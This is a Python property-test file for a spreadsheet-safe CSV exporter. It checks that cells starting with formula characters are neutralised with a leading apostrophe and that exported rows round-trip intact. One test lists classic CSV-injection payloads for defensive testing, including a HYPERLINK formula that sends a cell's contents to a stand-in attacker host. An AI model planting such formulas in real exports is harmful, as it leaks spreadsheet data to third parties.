"""Spreadsheet-safe CSV: no cell can start a formula, and the text survives a round trip."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from reconnect.core.csv_export import FORMULA_TRIGGERS, UTF8_BOM, csv_lines, spreadsheet_safe

cells = st.one_of(
    st.text(),
    st.sampled_from(FORMULA_TRIGGERS).flatmap(lambda trigger: st.text().map(trigger.__add__)),
    st.integers(),
    st.none(),
)


def parse(lines: list[str]) -> list[list[str]]:
    text = "".join(lines)
    assert text.startswith(UTF8_BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(UTF8_BOM), newline="")))


@given(cells)
def test_spreadsheet_safe_never_starts_with_a_formula_trigger(value):
    cell = spreadsheet_safe(value)

    assert not cell.startswith(FORMULA_TRIGGERS)


@given(cells)
def test_spreadsheet_safe_changes_only_dangerous_cells_and_only_by_a_leading_apostrophe(value):
    text = "" if value is None else str(value)

    cell = spreadsheet_safe(value)

    if text.startswith(FORMULA_TRIGGERS):
        assert cell == "'" + text
    else:
        assert cell == text


@given(st.lists(st.lists(cells, min_size=1, max_size=6), max_size=8))
def test_csv_lines_round_trip_to_the_safe_cells(rows):
    header = ["a", "b"]

    parsed = parse(list(csv_lines(header, rows)))

    assert parsed == [header] + [[spreadsheet_safe(cell) for cell in row] for row in rows]


def test_spreadsheet_safe_neutralises_the_classic_payloads():
    payloads = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]

    assert [spreadsheet_safe(payload) for payload in payloads] == ["'" + p for p in payloads]


def test_spreadsheet_safe_leaves_ordinary_text_alone():
    assert [spreadsheet_safe(v) for v in ["head.a@example.org", "Zoë", 900001, None, ""]] == [
        "head.a@example.org",
        "Zoë",
        "900001",
        "",
        "",
    ]
